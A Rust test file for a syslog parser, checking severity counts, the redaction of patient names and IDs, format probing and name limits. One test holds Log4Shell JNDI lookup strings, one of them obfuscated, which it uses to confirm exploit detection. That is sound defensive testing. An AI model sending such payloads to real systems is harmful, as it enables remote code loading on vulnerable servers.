//! Messages as servers, switches and programs send them, and broken ones.

use super::PROTOCOL;
use crate::protocols::Dir::{self, Orig};
use crate::protocols::Probe;
use crate::testing::{play_datagrams, PlainRow};

fn play(script: &[&[u8]]) -> Vec<PlainRow> {
    let script: Vec<(Dir, &[u8])> = script.iter().map(|said| (Orig, *said)).collect();
    play_datagrams((PROTOCOL.conversation)().as_mut(), 514, &script)
        .remove("syslog")
        .unwrap_or_default()
}

fn told(row: &PlainRow, expected: &[(&str, &str)]) {
    for (column, value) in expected {
        assert_eq!(row[*column], *value, "{column}");
    }
}

#[test]
fn what_is_told_is_counted_and_not_kept() {
    let rows = play(&[
        b"<38>Nov 29 16:43:56 ct01 sshd[812]: Failed password for erika from 10.0.0.9 port 22",
        b"<34>Nov  9 16:43:57 mustermann-pc sshd[812]: Invalid user mustermann",
        b"<38>Nov 29 16:43:58 ct01 erika[1]: fine",
        b"<165>1 2026-01-01T10:00:00Z ris01 systemd 77 ID47 - Patient Mustermann, Erika *19640812 MRN004711",
    ]);
    let expected = [
        ("proto", "udp"),
        ("facility", "AUTH"),
        ("severity", "CRIT"),
        ("messages", "3"),
        ("severities", "[0, 0, 1, 0, 0, 0, 2, 0]"),
        ("format", "rfc3164"),
        ("apps", "[sshd]"),
        ("hosts", "2"),
        ("marks", "[syslog-login-failed]"),
        ("marked", "2"),
        ("malformed", "-"),
    ];
    told(&rows[0], &expected);
    told(
        &rows[1],
        &[
            ("facility", "LOCAL4"),
            ("severity", "NOTICE"),
            ("format", "rfc5424"),
            ("apps", "[systemd]"),
            ("marks", "[]"),
        ],
    );
    let text = format!("{rows:?}").to_lowercase();
    assert!(["erika", "muster", "4711", "1964"].iter().all(|word| !text.contains(word)));
}

#[test]
fn a_word_of_the_text_is_no_program() {
    let rows = play(&[
        b"<13>Nov 29 10:00:00 pacs Patient-ID/48113 admitted",
        b"<13>Nov 29 10:00:00 pacs nginx restarted by Mustermann",
        b"<13>Nov 29 10:00:00 pacs Oberhuber/80312: exam stored",
        b"<14>1 2026-01-01T00:00:00Z host Oberhuber/80312 - - - text",
    ]);
    told(&rows[0], &[("messages", "4"), ("apps", "[]")]);
}

#[test]
fn a_look_up_in_what_is_logged_is_marked() {
    let rows = play(&[
        b"<38>Nov 29 16:43:56 ct01 nginx: \"GET / HTTP/1.1\" \"${jndi:ldap://10.0.0.9/erika}\"",
        b"<38>Nov 29 16:43:57 ct01 cron[8]: (root) CMD (echo $HOME ${x} %5)",
        b"<38>Nov 29 16:43:58 ct01 sshd[812]: Failed password for ${${::-j}ndi:dns://x}",
    ]);
    told(
        &rows[0],
        &[
            ("messages", "3"),
            ("marks", "[syslog-exploit, syslog-login-failed, exploit-log4shell]"),
            ("marked", "2"),
        ],
    );
    assert!(!format!("{rows:?}").contains("erika"));
}

#[test]
fn switches_and_programs_without_a_stamp_are_read() {
    let rows = play(&[b"<189>45: *Mar  1 00:01:01: %SYS-5-CONFIG_I: Configured from console by erika"]);
    told(
        &rows[0],
        &[
            ("facility", "LOCAL7"),
            ("format", "other"),
            ("marks", "[syslog-config-changed]"),
            ("hosts", "0"),
        ],
    );
    told(
        &play(&[b"<6>Nov 29 16:43:56 kernel: up"])[0],
        &[("facility", "KERN"), ("apps", "[kernel]"), ("hosts", "0")],
    );
}

#[test]
fn what_is_none_is_told_and_never_taken_for_one() {
    let whole = b"<38>Nov 29 16:43:56 ct01 sshd[812]: zz";
    for kept in 0..4 {
        assert_eq!((PROTOCOL.probe)(514, &whole[..kept]), Probe::Never);
        told(&play(&[whole, &whole[..kept]])[0], &[("messages", "1"), ("malformed", "priority")]);
    }
    for kept in 4..whole.len() {
        assert_eq!((PROTOCOL.probe)(514, &whole[..kept]), Probe::Certain);
    }
    for other in [&b"<192>Nov 29 16:43:56 a b: c"[..], b"<a>x", b"<>x", b"<1234>x", b"<+1>x", b"x<1>x"] {
        assert_eq!((PROTOCOL.probe)(514, other), Probe::Never);
    }
    assert_eq!((PROTOCOL.probe)(9514, b"<13>something"), Probe::Never);
    assert_eq!((PROTOCOL.probe)(9514, whole), Probe::Certain);
}

#[test]
fn names_are_bounded() {
    let all: Vec<Vec<u8>> = (0..200)
        .map(|n| format!("<38>Nov 29 16:43:56 h{n} nginx/{n}[1]: zz").into_bytes())
        .collect();
    let script: Vec<&[u8]> = all.iter().map(Vec::as_slice).collect();
    let rows = play(&script);
    told(&rows[0], &[("messages", "200"), ("hosts", "64")]);
    assert_eq!(rows[0]["apps"].matches(',').count(), crate::limits::SYSLOG_APPS - 1);
}
